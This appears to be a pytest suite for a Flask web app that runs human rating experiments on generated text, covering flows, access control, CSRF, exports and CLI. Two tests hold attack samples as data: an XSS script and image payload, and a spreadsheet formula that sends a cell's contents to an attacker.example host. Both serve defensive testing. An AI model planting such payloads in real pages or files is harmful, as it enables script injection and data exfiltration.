"""The experiment web app in-process (Flask test client): flow, forms, access, export, CLI."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from experiment_helpers import answer_form, csrf_of, form_action, inputs, write_experiment
from typer.testing import CliRunner

from nlgeval.cli import app as cli_app
from nlgeval.errors import InputError
from nlgeval.experiment import create_experiment
from nlgeval.experiment.app import create_app
from nlgeval.experiment.export import export_ratings
from nlgeval.experiment.storage import Judgement, Store, Trial


def _setup(tmp_path: Path, **kw: object):  # noqa: ANN202
    d = write_experiment(tmp_path / "exp", **kw)  # type: ignore[arg-type]
    made = create_experiment(d)
    app = create_app(d)
    app.testing = True
    return d, made, app


def _store(app) -> Store:  # noqa: ANN001
    return app.extensions["nlgeval_experiment"]["store"]


def _n_judgements(app) -> int:  # noqa: ANN001
    with _store(app).read() as s:
        return s.query(Judgement).count()


def _start(client, token: str) -> str:  # noqa: ANN001
    page = client.get(f"/e/{token}").get_data(as_text=True)
    r = client.post(f"/e/{token}/start", data={"csrf": csrf_of(page)})
    assert r.status_code == 303
    return client.get(f"/e/{token}").get_data(as_text=True)


def test_full_flow_absolute_export_has_exactly_the_judgements(tmp_path: Path) -> None:
    d, made, app = _setup(tmp_path)
    tokens = list(made.evaluators["token"])
    assert len(tokens) == 3 and len(set(tokens)) == 3
    assert all(len(t) >= 24 for t in tokens)  # >= 144 random bits
    c = app.test_client()
    tok = tokens[0]
    page = c.get(f"/e/{tok}").get_data(as_text=True)
    assert "Please <strong>judge</strong> the texts." in page  # Markdown introduction
    assert "1 practice trial" in page and "6 trials" in page
    page = _start(c, tok)
    # the questionnaire cannot be answered before the trials
    assert c.post(f"/e/{tok}/questionnaire", data={"csrf": csrf_of(page), "q_native": "no"}
                  ).status_code == 409
    rng = np.random.default_rng(0)
    sent: dict[tuple[str, str], dict[str, float]] = {}
    seen_remaining = []
    for step in range(7):
        assert "/trial/" in page
        if step == 0:
            assert "Practice trial 1 of 1" in page
        else:
            seen_remaining.append(int(re.search(r"(\d+) items? remaining", page).group(1)))
        m = re.search(r"Output of (S\d) for ((?:i|p)\d)\.", page)
        data = answer_form(page, rng)
        sent[(m.group(1), m.group(2))] = {"quality": float(data["c0"]),
                                          "fluency": float(data["c1"])}
        r = c.post(form_action(page), data=data)
        assert r.status_code == 303
        page = c.get(f"/e/{tok}").get_data(as_text=True)
    assert seen_remaining == [6, 5, 4, 3, 2, 1]
    assert "Is English your first language?" in page
    # a required question left out: shown again and marked; an impossible option: refused
    r = c.post(f"/e/{tok}/questionnaire", data={"csrf": csrf_of(page)})
    assert r.status_code == 422 and 'class="question invalid"' in r.get_data(as_text=True)
    r = c.post(f"/e/{tok}/questionnaire", data={"csrf": csrf_of(page), "q_native": "maybe"})
    assert r.status_code == 400
    r = c.post(f"/e/{tok}/questionnaire", data={"csrf": csrf_of(page), "q_native": "no"})
    assert r.status_code == 303
    assert "Thank you" in c.get(f"/e/{tok}").get_data(as_text=True)

    df = export_ratings(_store(app), app.extensions["nlgeval_experiment"]["config"])
    assert list(df.columns[:5]) == ["rater", "item", "system", "criterion", "score"]
    assert set(df["rater"]) == {"1"}
    assert len(df) == 12 and not df["practice"].any()  # 6 trials x 2 criteria
    got = {(r.system, r.item, r.criterion): r.score for r in df.itertuples()}
    want = {(s, i, k): v for (s, i), crit in sent.items() if i.startswith("i")
            for k, v in crit.items()}
    assert got == want
    assert (df["time_ms"] >= 0).all() and df["time_ms"].notna().all()
    with_practice = export_ratings(_store(app), None, include_practice=True)
    assert len(with_practice) == 14 and with_practice["practice"].sum() == 2
    # the researcher view shows the progress and exports the same table
    rt = made.researcher_token
    view = c.get(f"/r/{rt}").get_data(as_text=True)
    assert "6/6" in view and "0/6" in view
    csv = c.get(f"/r/{rt}/ratings.csv").get_data(as_text=True)
    assert len(pd.read_csv(pd.io.common.StringIO(csv))) == 12
    q = c.get(f"/r/{rt}/questionnaire.csv").get_data(as_text=True)
    assert "1,native,no" in q


def test_resume_after_leaving_with_a_fresh_browser(tmp_path: Path) -> None:
    _d, made, app = _setup(tmp_path)
    tok = made.evaluators["token"].iloc[1]
    c1 = app.test_client()
    page = _start(c1, tok)
    rng = np.random.default_rng(1)
    for _ in range(3):
        c1.post(form_action(page), data=answer_form(page, rng))
        page = c1.get(f"/e/{tok}").get_data(as_text=True)
    current = form_action(page)
    c2 = app.test_client()  # another device: no cookies
    page2 = c2.get(f"/e/{tok}").get_data(as_text=True)
    assert form_action(page2) == current
    assert "4 items remaining" in page2
    assert c2.post(current, data=answer_form(page2, rng)).status_code == 303
    assert _n_judgements(app) == 8


def test_incomplete_form_is_reshown_with_answers_kept(tmp_path: Path) -> None:
    _d, made, app = _setup(tmp_path)
    tok = made.evaluators["token"].iloc[0]
    c = app.test_client()
    page = _start(c, tok)
    csrf = csrf_of(page)
    r = c.post(form_action(page), data={"csrf": csrf, "c0": "4", "comment": "hello <b>"})
    assert r.status_code == 422
    again = r.get_data(as_text=True)
    checked = [a for a in inputs(again) if a.get("name") == "c0" and a.get("checked")]
    assert [a["value"] for a in checked] == ["4"]  # the answer given is kept
    assert 'class="criterion vas invalid"' in again  # the missing part is marked
    assert "move the slider" in again.lower()
    assert "hello &lt;b&gt;</textarea>" in again
    assert _n_judgements(app) == 0


def test_untouched_slider_is_never_recorded(tmp_path: Path) -> None:
    _d, made, app = _setup(tmp_path)
    tok = made.evaluators["token"].iloc[0]
    c = app.test_client()
    page = _start(c, tok)
    base = {"csrf": csrf_of(page), "c0": "3", "c1": "50", "c1_moved": "0"}
    assert c.post(form_action(page), data=base).status_code == 422
    assert _n_judgements(app) == 0
    # ticking "confirm" records the value where the slider stands
    r = c.post(form_action(page), data={**base, "c1_confirm": "1"})
    assert r.status_code == 303
    with _store(app).read() as s:
        j = s.query(Judgement).filter_by(criterion="fluency").one()
    assert j.response == 50 and j.confirmed


def test_double_submit_never_duplicates(tmp_path: Path) -> None:
    _d, made, app = _setup(tmp_path)
    tok = made.evaluators["token"].iloc[0]
    c = app.test_client()
    page = _start(c, tok)
    data = answer_form(page, np.random.default_rng(2))
    data["shown"] = "1000." + "0" * 32  # a forged display time is ignored, not trusted
    action = form_action(page)
    assert c.post(action, data=data).status_code == 303
    assert c.post(action, data=data).status_code == 303  # double click / back button
    data2 = dict(data, c0="1")
    assert c.post(action, data=data2).status_code == 303  # resubmitting changes nothing
    assert _n_judgements(app) == 2
    with _store(app).read() as s:
        j = s.query(Judgement).filter_by(criterion="quality").one()
    assert j.response == float(data["c0"]) and j.time_ms is None


def test_access_control(tmp_path: Path) -> None:
    _d, made, app = _setup(tmp_path)
    t1, t2 = made.evaluators["token"].iloc[0], made.evaluators["token"].iloc[1]
    c = app.test_client()
    page = _start(c, t1)
    good = answer_form(page, np.random.default_rng(3))
    action = form_action(page)
    my_trial = int(action.rsplit("/", 1)[1])
    with _store(app).read() as s:
        me = s.get(Trial, my_trial).evaluator_id
        other = s.query(Trial).filter(Trial.evaluator_id != me).first().id
        mine_later = s.query(Trial).filter_by(evaluator_id=me, position=3).one().id
    # another evaluator's trial, with my token: refused
    assert c.post(f"/e/{t1}/trial/{other}", data=good).status_code == 404
    # my trial with another evaluator's token (and my session's CSRF token): refused
    assert c.post(f"/e/{t2}/trial/{my_trial}", data=good).status_code == 404
    # guessed / altered tokens and ids
    altered = t1[:-1] + ("y" if t1.endswith("x") else "x")  # tokens are random: never t1 itself
    assert c.get(f"/e/{altered}").status_code == 404
    assert c.get("/e/1").status_code == 404
    assert c.post(f"/e/{t1}/trial/999999", data=good).status_code == 404
    # a later trial of mine, skipping the current one: refused
    assert c.post(f"/e/{t1}/trial/{mine_later}", data=good).status_code == 409
    # form values the form cannot produce
    for bad in ({"c0": "7"}, {"c0": "3.5"}, {"c1": "101"}, {"c1": "-1"}, {"c1": "nan"},
                {"c1": "1e999"}, {"c1": "abc"}):
        assert c.post(action, data={**good, **bad}).status_code == 400, bad
    # CSRF: missing, wrong, or taken from another browser's session
    nocsrf = {k: v for k, v in good.items() if k != "csrf"}
    assert c.post(action, data=nocsrf).status_code == 400
    assert c.post(action, data={**good, "csrf": "forged"}).status_code == 400
    other_browser = app.test_client()
    r = other_browser.post(action, data=good)
    assert r.status_code == 400
    assert _n_judgements(app) == 0
    assert c.post(action, data=good).status_code == 303
    assert _n_judgements(app) == 2
    # researcher view needs its own token; evaluator tokens do not open it
    rt = made.researcher_token
    assert c.get(f"/r/{rt}").status_code == 200
    for wrong in (t1, rt[:-1], "x"):
        assert c.get(f"/r/{wrong}").status_code == 404
        assert c.get(f"/r/{wrong}/ratings.csv").status_code == 404
    # pages never leak tokens through the referrer and allow no inline/outside scripts
    r = c.get(f"/e/{t1}")
    assert r.headers["Referrer-Policy"] == "no-referrer"
    assert "script-src 'self'" in r.headers["Content-Security-Policy"]
    assert "http" not in re.sub(r'action="[^"]*"', "", r.get_data(as_text=True))


def test_script_in_an_output_is_shown_as_text(tmp_path: Path) -> None:
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    texts = {(s, i): evil for s in ("S1", "S2", "S3") for i in ("i1", "i2", "i3", "i4", "i5",
                                                                "i6", "p1")}
    _d, made, app = _setup(tmp_path, text_of=texts)
    c = app.test_client()
    page = _start(c, made.evaluators["token"].iloc[0])
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page
    assert "<script>alert" not in page and "<img src=x" not in page
    # researcher Markdown cannot inject markup either
    from nlgeval.experiment.markup import render_markdown

    html = str(render_markdown("**Hi** <script>alert(1)</script> & <b>x</b>"))
    assert "<strong>Hi</strong>" in html and "<script>" not in html and "<b>" not in html


def test_relative_export_is_canonical_and_balanced(tmp_path: Path) -> None:
    d, made, app = _setup(tmp_path, mode="relative", systems=3, items=6, evaluators=3)
    trials = pd.read_csv(d / "trials.csv")
    main = trials[~trials["practice"]]
    c = app.test_client()
    shown = []
    for tok in made.evaluators["token"]:
        page = _start(c, tok)
        while "/trial/" in page:
            a = re.search(r"Output of (S\d) for (\w+)\.", page)
            later = page[a.end():]
            b = re.search(r"Output of (S\d) for (\w+)\.", later)
            # fluency slider at +40 (B better), adequacy "A is slightly better" (-1)
            data = {"csrf": csrf_of(page), "c0": "40", "c0_moved": "1", "c1": "-1"}
            assert c.post(form_action(page), data=data).status_code == 303
            shown.append((a.group(1), b.group(1), a.group(2)))
            page = c.get(f"/e/{tok}").get_data(as_text=True)
    df = export_ratings(_store(app), app.extensions["nlgeval_experiment"]["config"])
    assert len(df) == 2 * len(main)
    assert (df["system"] < df["system_b"]).all()  # canonical order S1 < S2 < S3
    for r in df.itertuples():
        first_left = r.left == r.system
        if r.criterion == "fluency":  # scale -50..50; 40 means "B (right) better"
            assert r.score == (-40 if first_left else 40)
        else:  # relative5 -2..2; -1 means "A (left) slightly better"
            assert r.score == (1 if first_left else -1)
    # left/right order balanced per pair by the design (counts differ by at most one)
    fl = df[df.criterion == "fluency"].assign(first_left=lambda x: x["left"] == x["system"])
    lr = fl.groupby(["system", "system_b"])["first_left"].agg(["sum", "size"])
    assert len(lr) == 3
    assert ((2 * lr["sum"] - lr["size"]).abs() <= 1).all()


def test_triangle_experiment_export_reads_in_triangle_analysis(tmp_path: Path) -> None:
    from nlgeval.experiment.example import write_example
    from nlgeval.triangle.analysis import analyse_responses

    d = write_example(tmp_path / "tri", "triangle")
    made = create_experiment(d)
    app = create_app(d)
    c = app.test_client()
    q = pd.read_csv(d / "questionnaire.csv")
    right = 0
    for k, tok in enumerate(made.evaluators["token"]):
        page = _start(c, tok)
        assert page.count('name="odd"') == 3
        # missing choice -> shown again
        r = c.post(form_action(page), data={"csrf": csrf_of(page)})
        assert r.status_code == 422
        assert c.post(form_action(page), data={"csrf": csrf_of(page), "odd": "4"}
                      ).status_code == 400
        judge = made.evaluators["evaluator"].iloc[k]
        odd = int(q.loc[q["judge"].astype(str) == judge, "odd_position"].iloc[0])
        pick = odd if k % 2 == 0 else (odd % 3) + 1
        right += pick == odd
        assert c.post(form_action(page), data={"csrf": csrf_of(page), "odd": str(pick)}
                      ).status_code == 303
    csv = tmp_path / "tri.csv"
    export_ratings(_store(app)).to_csv(csv, index=False)
    back = pd.read_csv(csv, dtype=str)
    res = analyse_responses(back)
    assert res.n == 6 and res.correct == right == 3
    assert set(back["criterion"]) == {"odd_one_out"}
    # the CLI reads the export too
    out = CliRunner().invoke(cli_app, ["triangle", "analyse", "--responses", str(csv)])
    assert out.exit_code == 0, out.output


# ------------------------------------------------------------------------------ bad configs
def _bad(tmp_path: Path, **kw: object) -> str:
    d = write_experiment(tmp_path / "bad", **kw)  # type: ignore[arg-type]
    with pytest.raises(InputError) as ei:
        create_experiment(d)
    return str(ei.value)


def test_bad_config_unknown_tool(tmp_path: Path) -> None:
    msg = _bad(tmp_path, criteria='[[criteria]]\nname = "q"\ntool = "stars"\n')
    assert "unknown rating tool 'stars'" in msg and "criteria[1].tool" in msg
    assert "experiment.toml" in msg


def test_bad_config_criterion_without_scale(tmp_path: Path) -> None:
    msg = _bad(tmp_path, criteria='[[criteria]]\nname = "q"\ntool = "vds"\n')
    assert "criterion 'q' has no scale" in msg
    msg = _bad(tmp_path, criteria='[[criteria]]\nname = "q"\ntool = "vas"\n')
    assert "needs labels for both end points" in msg


def test_bad_config_trial_sets_do_not_match_outputs(tmp_path: Path) -> None:
    d = write_experiment(tmp_path / "m")
    out = pd.read_csv(d / "outputs.csv")
    out = out[~((out.system == "S2") & (out.item == "i4"))]
    out.to_csv(d / "outputs.csv", index=False)
    with pytest.raises(InputError, match="item 'i4' has no output from system"):
        create_experiment(d)
    msg = _bad(tmp_path, evaluators=4)
    assert "4 evaluators is not a multiple of the 3 systems" in msg and "3 or 6" in msg


def test_bad_config_misc(tmp_path: Path) -> None:
    assert "did you mean 'evaluators'" in _bad(tmp_path, extra="evaluator = 3")
    d = write_experiment(tmp_path / "p")
    cfg = (d / "experiment.toml").read_text()
    (d / "experiment.toml").write_text(cfg.replace('practice_items = ["p1"]', ""))
    with pytest.raises(InputError, match="practice = 1 needs practice_items"):
        create_experiment(d)
    msg = _bad(tmp_path, criteria='[[criteria]]\nname = "q"\ntool = "vds"\nscale = "relative5"\n')
    assert "is for relative judgements" in msg
    d = write_experiment(tmp_path / "t")
    (d / "experiment.toml").write_text('title = "x"\nmode = "absolute"\n[[criteria]\n')
    with pytest.raises(InputError, match="not valid TOML"):
        create_experiment(d)


def test_serve_time_checks(tmp_path: Path) -> None:
    d = write_experiment(tmp_path / "s")
    with pytest.raises(InputError, match="has not been created yet"):
        create_app(d)
    create_experiment(d)
    with pytest.raises(InputError, match="already created"):
        create_experiment(d)
    create_experiment(d, force=True)
    cfg = (d / "experiment.toml").read_text()
    (d / "experiment.toml").write_text(cfg.replace('scale = "meteo5"',
                                                   'labels = ["bad", "good"]'))
    with pytest.raises(InputError, match="changed since"):
        create_app(d)


def test_cli_create_status_export(tmp_path: Path) -> None:
    d = write_experiment(tmp_path / "cli")
    runner = CliRunner()
    r = runner.invoke(cli_app, ["experiment", "create", str(d), "--json", "--quiet"])
    assert r.exit_code == 0, r.output
    import json

    made = json.loads(r.stdout)
    assert len(made["evaluators"]) == 3 and made["researcher_url"].startswith("http://")
    r = runner.invoke(cli_app, ["experiment", "status", str(d), "--json"])
    assert r.exit_code == 0 and json.loads(r.stdout)["total"] == 18
    r = runner.invoke(cli_app, ["experiment", "export", str(d), "--out", str(tmp_path / "r.csv")])
    assert r.exit_code == 0
    assert list(pd.read_csv(tmp_path / "r.csv").columns[:5]) == [
        "rater", "item", "system", "criterion", "score"]


def test_cli_bad_config_exits_2_with_one_line(tmp_path: Path) -> None:
    d = write_experiment(tmp_path / "b", criteria='[[criteria]]\nname = "q"\ntool = "likert"\n')
    exe = Path(sys.executable).parent / "nlgeval"
    cmd = [str(exe)] if exe.exists() else [sys.executable, "-c",
                                            "from nlgeval.cli import main; main()"]
    p = subprocess.run(cmd + ["experiment", "create", str(d)], capture_output=True, text=True,
                       timeout=120)
    assert p.returncode == 2
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1 and "unknown rating tool 'likert'" in lines[0]
    r = CliRunner().invoke(cli_app, ["serve", str(d)])
    assert r.exit_code != 0 and "unknown rating tool" in str(r.exception)


def test_example_experiments_create(tmp_path: Path) -> None:
    from nlgeval.experiment.example import write_example

    for mode in ("absolute", "relative", "triangle"):
        d = write_example(tmp_path / mode, mode)  # type: ignore[arg-type]
        made = create_experiment(d)
        assert len(made.evaluators) >= 3
        create_app(d)


def test_export_feeds_the_human_ratings_analyses(tmp_path: Path) -> None:
    """A finished experiment's CSV (practice rows included and flagged) reads with
    ``nlgeval.human.ratings.read_ratings``, which drops the practice rows, and runs through
    the pairwise Wilcoxon comparison."""
    from nlgeval.human.compare import pairwise_wilcoxon
    from nlgeval.human.ratings import read_ratings

    _d, made, app = _setup(tmp_path, systems=3, items=6, evaluators=6)
    c = app.test_client()
    rng = np.random.default_rng(9)
    for tok in made.evaluators["token"]:
        page = _start(c, tok)
        while "/trial/" in page:
            assert c.post(form_action(page), data=answer_form(page, rng)).status_code == 303
            page = c.get(f"/e/{tok}").get_data(as_text=True)
    csv = tmp_path / "all.csv"
    export_ratings(_store(app), None, include_practice=True).to_csv(csv, index=False)
    r = read_ratings(csv, criterion="quality")
    assert len(r) == 6 * 6  # 6 evaluators x 6 main trials; the 6 practice rows dropped
    res = pairwise_wilcoxon(r, pairing="lsed")
    assert len(res) == 3 and res["pvalue"].between(0, 1).all()


def test_experiment_on_a_published_corpus(tmp_path: Path, data_dir: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """``corpus = "webnlg2020"`` + ``sample_items``: a seeded sample of items every chosen
    system has an output for, served with the corpus' own texts."""
    from nlgeval.corpora import load_corpus

    monkeypatch.setenv("NLGEVAL_DATA", str(data_dir))
    corpus = load_corpus("webnlg2020", download=False)
    systems = corpus.systems[:3]
    d = tmp_path / "web"
    d.mkdir()
    (d / "experiment.toml").write_text(
        'title = "WebNLG fluency"\ncorpus = "webnlg2020"\nsample_items = 6\nevaluators = 3\n'
        f"systems = {systems!r}\n".replace("'", '"')
        + '[[criteria]]\nname = "Fluency"\ntool = "vas"\nleft_label = "no"\nright_label = "yes"\n'
    )
    made = create_experiment(d)
    trials = pd.read_csv(d / "trials.csv", dtype=str)
    assert trials["item"].nunique() == 6 and set(trials["system"]) == set(systems)
    app = create_app(d)
    c = app.test_client()
    page = _start(c, made.evaluators["token"].iloc[0])
    t = trials[trials["evaluator"] == made.evaluators["evaluator"].iloc[0]].iloc[0]
    text = corpus.outputs.set_index(["system", "item"]).loc[(t["system"], t["item"]), "text"]
    from markupsafe import escape

    assert str(escape(text)) in page
    # the same seed gives the same sample
    create_experiment(d, force=True)
    assert pd.read_csv(d / "trials.csv", dtype=str)["item"].tolist() == trials["item"].tolist()


@pytest.mark.parametrize("secure", [False, True])
def test_session_cookie_flags(tmp_path: Path, secure: bool) -> None:
    """HttpOnly and SameSite always; Secure only when asked (behind an HTTPS proxy)."""
    d = write_experiment(tmp_path / "exp")
    made = create_experiment(d)
    app = create_app(d, secure_cookies=secure)
    c = app.test_client()
    r = c.get(f"/e/{made.evaluators['token'].iloc[0]}")
    cookies = [h for h in r.headers.getlist("Set-Cookie") if h.startswith("nlgeval_session=")]
    assert len(cookies) == 1
    flags = {f.strip().split("=")[0].lower() for f in cookies[0].split(";")[1:]}
    assert {"httponly", "samesite"} <= flags
    assert ("secure" in flags) is secure


def test_spreadsheet_safe_export_neutralises_formulas_only_when_asked(tmp_path: Path) -> None:
    """OWASP CSV injection: an evaluator's comment starting with '=' must not run in Excel."""
    import io

    d, made, app = _setup(tmp_path, practice=0)
    tok = made.evaluators["token"].iloc[0]
    c = app.test_client()
    page = _start(c, tok)
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    data = answer_form(page, np.random.default_rng(0)) | {"comment": evil}
    assert c.post(form_action(page), data=data).status_code == 303
    rt = made.researcher_token
    raw = pd.read_csv(io.StringIO(c.get(f"/r/{rt}/ratings.csv").get_data(as_text=True)))
    safe = pd.read_csv(io.StringIO(
        c.get(f"/r/{rt}/ratings.csv?spreadsheet=1").get_data(as_text=True)))
    assert set(raw["comment"].dropna()) == {evil}  # the analysis export is exact
    assert set(safe["comment"].dropna()) == {"'" + evil}
    assert safe["score"].tolist() == raw["score"].tolist()  # numbers untouched
    out = tmp_path / "safe.csv"
    r = CliRunner().invoke(cli_app, ["experiment", "export", str(d), "--out", str(out),
                                     "--spreadsheet-safe"])
    assert r.exit_code == 0, r.output
    assert set(pd.read_csv(out)["comment"].dropna()) == {"'" + evil}
